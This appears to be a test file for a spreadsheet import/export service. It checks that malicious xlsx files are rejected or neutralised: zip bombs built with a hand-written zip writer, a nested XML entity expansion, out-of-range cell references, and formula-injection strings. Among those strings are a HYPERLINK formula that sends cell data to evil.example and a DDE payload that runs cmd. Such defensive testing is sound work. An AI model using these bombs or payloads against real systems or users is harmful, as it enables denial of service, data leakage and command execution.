/** Spreadsheets that mean harm: what would take the function's memory or time is turned away before it is unpacked. */
import { deflateRawSync } from 'node:zlib';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { plainText } from '../../cloudfunctions/sheets/plainText';
import { readSheets } from '../../cloudfunctions/sheets/read';
import { writeSheets } from '../../cloudfunctions/sheets/write';

const rowsOf = (...rows: (string | number | null)[][]) =>
  writeSheets([{ name: '客户与工程', widths: [10], titles: 1, rows }]);

const wrongOf = async (bytes: Buffer): Promise<string> => {
  const answer = await readSheets(bytes);
  return 'wrong' in answer ? answer.wrong : '';
};

/** The same spreadsheet with something done to the text of its one sheet. */
async function altered(change: (xml: string) => string): Promise<Buffer> {
  const parts = unzipSync(await rowsOf(['合同编号'], ['A-1']));
  const name = Object.keys(parts).find((key) => /worksheets\/[^/]+\.xml$/.test(key)) ?? '';
  parts[name] = strToU8(change(strFromU8(parts[name] ?? new Uint8Array())));
  return Buffer.from(zipSync(parts));
}

interface Entry {
  name: string;
  packed: Buffer;
  /** What the directory says that it unpacks to. */
  says: number;
}

/** A zip made by hand; entries with the same bytes share them, as the densest bombs do. */
function zipOf(entries: readonly Entry[]): Buffer {
  const chunks: Buffer[] = [];
  const directory: Buffer[] = [];
  const at = new Map<Buffer, number>();
  let length = 0;
  for (const { name, packed, says } of entries) {
    const title = Buffer.from(name);
    let offset = at.get(packed);
    if (offset === undefined) {
      offset = length;
      at.set(packed, offset);
      const head = Buffer.alloc(30);
      head.writeUInt32LE(0x04034b50, 0);
      head.writeUInt16LE(20, 4);
      head.writeUInt16LE(8, 8);
      head.writeUInt32LE(packed.length, 18);
      head.writeUInt32LE(says, 22);
      head.writeUInt16LE(title.length, 26);
      chunks.push(head, title, packed);
      length += head.length + title.length + packed.length;
    }
    const line = Buffer.alloc(46);
    line.writeUInt32LE(0x02014b50, 0);
    line.writeUInt16LE(20, 4);
    line.writeUInt16LE(20, 6);
    line.writeUInt16LE(8, 10);
    line.writeUInt32LE(packed.length, 20);
    line.writeUInt32LE(says, 24);
    line.writeUInt16LE(title.length, 28);
    line.writeUInt32LE(offset, 42);
    directory.push(line, title);
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(length, 16);
  return Buffer.concat([...chunks, central, end]);
}

const MEGABYTE = 1_048_576;
/** A hundred million zeros in a hundred thousand bytes. */
const bomb = deflateRawSync(Buffer.alloc(100 * MEGABYTE), { level: 9 });
const sheetName = (number: number): string => `xl/worksheets/sheet${number}.xml`;

describe('a spreadsheet that unfolds', () => {
  test('a hundred kilobytes that are two gigabytes are turned away unread', async () => {
    const entries = Array.from({ length: 20 }, (_, place) => ({
      name: sheetName(place + 1),
      packed: bomb,
      says: 100 * MEGABYTE,
    }));
    const bytes = zipOf(entries);
    expect(bytes.length).toBeLessThan(200_000);
    const before = process.memoryUsage().arrayBuffers;
    expect(await wrongOf(bytes)).toBe('文件里的内容太多,请只留下要导入的工作表');
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(10 * MEGABYTE);
  });

  test('one that lies about its size gets no more room than it says', async () => {
    const bytes = zipOf([{ name: sheetName(1), packed: bomb, says: 2_000 }]);
    const before = process.memoryUsage().arrayBuffers;
    expect(await wrongOf(bytes)).toBe('文件打不开,请用表格软件另存为 .xlsx 后重新上传');
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(10 * MEGABYTE);
  });

  test('thousands of parts', async () => {
    const empty = deflateRawSync(Buffer.alloc(0));
    const entries = Array.from({ length: 5_000 }, (_, place) => ({
      name: sheetName(place + 1),
      packed: empty,
      says: 0,
    }));
    expect(await wrongOf(zipOf(entries))).toBe('文件里的内容太多,请只留下要导入的工作表');
  });

  test('an entity that grows by being named again and again stays what it is', async () => {
    const entities =
      '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>';
    const bytes = await altered((xml) =>
      xml.replace(/(<\?xml[^>]*\?>)?/, `$1${entities}`).replace('A-1', '&b;&b;&b;'),
    );
    const answer = await readSheets(bytes);
    expect(JSON.stringify(answer).length).toBeLessThan(1_000);
    expect(JSON.stringify(answer)).not.toContain('aaaaaaaaaa');
  });
});

describe('a cell far away', () => {
  test.each([
    ['the last there can be', 'XFD1048576', '第 11000 行以后'],
    ['below', 'A11001', '第 11000 行以后'],
    ['to the right', 'GS2', '第 200 列以后'],
    ['beyond what there can be', 'ZZZ2', '第 200 列以后'],
  ])('%s is named, and nothing between is made', async (_, place, sentence) => {
    const bytes = await altered((xml) => xml.replace(/ r="A2"/, ` r="${place}"`));
    expect(await wrongOf(bytes)).toContain(sentence);
  });

  test('the last that may be', async () => {
    const bytes = await altered((xml) => xml.replace(/ r="A2"/, ' r="GR2"'));
    expect(await wrongOf(bytes)).toBe('');
  });

  test.each([
    ['in single quotes', (xml: string) => xml.replace(/ r="A2"/, " r='XFD1048576'")],
    ['with room around the sign', (xml: string) => xml.replace(/ r="A2"/, ' r = "XFD1048576"')],
    ['on a line of its own', (xml: string) => xml.replace(/ r="A2"/, '\nr="XFD1048576"')],
    ['written as an entity', (xml: string) => xml.replace(/ r="A2"/, ' r="XFD&#49;048576"')],
  ])('that is written otherwise, %s, is no way round', async (_, change) => {
    const bytes = await altered(change);
    const before = process.memoryUsage().heapUsed;
    const answer = await readSheets(bytes);
    const cells = 'sheets' in answer ? answer.sheets.flatMap(({ rows }) => rows.flat()).length : 0;
    expect(cells).toBeLessThan(1_000_000);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(200 * MEGABYTE);
  });
});

describe('what a program could take for a formula', () => {
  const formulas = [
    '=HYPERLINK("http://evil.example/"&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    '+86 138 0000 0000',
    '-1+2',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
  ];

  test.each(formulas)('%j is written as text, with an apostrophe before it', async (text) => {
    expect(plainText(text)).toBe(`'${text}`);
    const parts = unzipSync(await rowsOf(['备注'], [text]));
    for (const part of Object.values(parts)) expect(strFromU8(part)).not.toMatch(/<f[ >]/);
    const answer = await readSheets(await rowsOf(['备注'], [text]));
    const cell = 'sheets' in answer ? answer.sheets[0]?.rows[1]?.[0] : undefined;
    // A tab and the end of a line may come back as any room between words.
    expect(String(cell).replace(/\s/g, ' ')).toBe(`'${text}`.replace(/\s/g, ' '));
  });

  test('full-width signs too, which some programs take for the same', () => {
    for (const text of ['＝1+1', '＋1', '－1', '＠A1']) expect(plainText(text)).toBe(`'${text}`);
  });

  test('ordinary words stay as they are', () => {
    for (const text of ['王芳', '3-1-1202', 'a=b', '']) expect(plainText(text)).toBe(text);
  });
});
